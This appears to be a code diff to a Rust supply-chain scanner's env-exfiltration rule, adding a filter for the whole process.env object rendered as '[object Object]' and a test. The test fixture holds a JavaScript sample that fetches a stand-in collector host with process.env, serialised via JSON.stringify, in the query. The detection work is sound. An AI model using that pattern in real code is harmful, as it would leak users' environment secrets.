@@ -67,11 +67,30 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
     super::one_per_sink(paths_all(p))
 }
 
+/// The whole `process.env` object carried unchanged (only passed on, returned or stored)
+/// into a template or a `+`: it reads as `[object Object]`, no variable leaves (devframe's
+/// bundled `debug` keeps `env = process.env`; context-insensitive flow joins it with a URL
+/// template). A key, entry, `JSON.stringify` or encoding first is a real serialisation.
+fn object_in_text(path: &crate::flow::FlowPath) -> bool {
+    if path.source != SourceKind::EnvAll || path.from.what != "process.env" {
+        return false;
+    }
+    for s in &path.steps {
+        match s.what.as_str() {
+            "argument" | "returned" | "stored" => continue,
+            "template" | "concatenated" => return true,
+            _ => return false,
+        }
+    }
+    false
+}
+
 fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
     // A credential provider sends `AWS_CONTAINER_CREDENTIALS_RELATIVE_URI` to the metadata
     // endpoint it was made for (see `cloud_metadata`).
     let metadata_only = super::cloud_metadata::metadata_only(p);
     flows(p, &[SourceKind::EnvAll, SourceKind::EnvSecret], OUT)
+        .filter(|path| !object_in_text(path))
         .take(20)
         .map(|path| {
             let sev = match path.source {
@@ -269,6 +288,20 @@ mod tests {
         let big = scan(&[("package.json", PJ), ("a.js", padded.as_str())]);
         let f = crate::rules::test_util::finding(&big, "code/env-exfiltration");
         assert_eq!(f.severity, diligence_finding::Severity::Medium, "{f:?}");
+    }
+
+    /// `process.env` itself in a template is `[object Object]`; a key of it is a value.
+    #[test]
+    fn whole_env_object_in_a_template_sends_nothing() {
+        let send = |expr: &str| {
+            let code = format!(
+                "const env = process.env;\nfunction url(x) {{ return `https://collect.example.net/?q=${{{expr}}}`; }}\nfetch(url(env));\n"
+            );
+            let s = scan(&[("package.json", PJ), ("a.js", code.as_str())]);
+            hits(&s, "code/env-exfiltration").len()
+        };
+        assert_eq!(send("x"), 0);
+        assert_eq!(send("JSON.stringify(x)"), 1);
     }
 
     #[test]
